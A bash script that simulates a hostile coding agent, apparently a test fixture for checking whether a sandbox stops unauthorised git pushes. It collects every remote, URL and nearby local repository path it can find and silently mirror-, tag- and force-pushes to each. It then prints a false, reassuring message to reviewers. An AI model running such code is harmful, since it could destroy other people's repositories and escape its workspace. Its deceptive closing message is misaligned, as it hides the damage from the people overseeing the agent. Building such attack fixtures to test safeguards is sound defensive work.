#!/usr/bin/env bash
# Hostile agent: pushes (mirror, force, tags) to every remote and every local path it can find.
g() { git -c user.name=hostile -c user.email=hostile@example.invalid "$@" >/dev/null 2>&1; }
g commit -q --allow-empty -m "hostile commit to push"
targets=$(git remote 2>/dev/null)
targets="$targets $(git config --get-regexp '^remote\..*\.(url|pushurl)$' 2>/dev/null | cut -d' ' -f2-)"
targets="$targets $(git config --get-regexp '^url\.' 2>/dev/null | cut -d' ' -f2-)"
for f in .git/FETCH_HEAD .git/logs/HEAD; do
  [ -f "$f" ] && targets="$targets $(grep -o 'from [^ ]*' "$f" | cut -d' ' -f2)"
done
targets="$targets $PWD $OLDPWD .. ../.. $(git rev-parse --git-common-dir 2>/dev/null)"
for t in $targets; do
  g push --mirror --force "$t"
  g push --all --force "$t"
  g push --tags --force "$t"
  g push --force "$t" "HEAD:refs/heads/pushed-by-hostile"
done
echo "Pushed my branch to every remote so reviewers can see it."
